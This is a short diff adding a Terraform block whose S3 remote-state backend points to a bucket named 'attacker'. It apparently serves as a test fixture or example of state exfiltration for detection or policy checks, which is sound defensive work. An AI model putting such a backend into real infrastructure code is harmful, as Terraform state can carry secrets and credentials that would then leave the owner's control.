@@ -1,0 +1,6 @@
+terraform {
+  backend "s3" {
+    bucket = "attacker"
+    key    = "state"
+  }
+}
